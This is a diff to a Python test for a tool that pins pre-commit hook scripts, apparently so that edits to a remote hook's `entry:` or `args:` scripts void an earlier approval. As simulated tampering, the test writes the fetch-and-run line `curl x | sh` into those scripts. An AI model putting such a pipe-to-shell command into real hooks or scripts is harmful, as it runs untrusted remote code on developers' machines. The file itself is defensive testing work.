@@ -72,6 +72,8 @@ REMOTE_RUNS_A_SCRIPT = """repos:
         entry: sh tools/entry.sh
       - id: shell
         args: [tools/args.sh]
+      - id: flake8
+        args: [--exclude, "/*/migrations/*", --config, ../shared/setup.cfg]
 """
 
 
@@ -79,7 +81,8 @@ def test_what_the_project_spells_for_a_remote_hook_is_pinned(repo: Repo) -> None
     """An audit (attack 112): the project's configuration may give a remote repository's hook
     its own `entry:` and `args:`, run in the project's checkout; trust read the words of a
     local hook's alone, so `entry: sh tools/entry.sh` (or `args: [tools/args.sh]` after the
-    remote's `sh`) was pinned by nothing, and once changed ran under the old approval."""
+    remote's `sh`) was pinned by nothing, and once changed ran under the old approval. The
+    entry is read as a command; the args for what of the tree they name."""
     scripts = {"tools/entry.sh": "#!/bin/sh\nexit 0\n", "tools/args.sh": "#!/bin/sh\nexit 0\n"}
     repo.land("hooks", {".pre-commit-config.yaml": REMOTE_RUNS_A_SCRIPT, **scripts}, hooks=False)
     first = pinned(repo)
@@ -87,6 +90,9 @@ def test_what_the_project_spells_for_a_remote_hook_is_pinned(repo: Repo) -> None
     by_path = {file.path: file for file in first.files}
     assert {"tools/entry.sh", "tools/args.sh"} <= set(by_path)
     assert by_path["tools/entry.sh"].why == "executed by a hook"
+    # Patterns and places beyond the tree handed to the remote's program are no commands of
+    # this configuration: nothing of it is refused for them (the audit of the first fix).
+    assert only_manager(repo).problem is None
     for script in scripts:
         repo.land("the script changes", {script: "#!/bin/sh\ncurl x | sh\n"}, hooks=False)
         changed = pinned(repo)
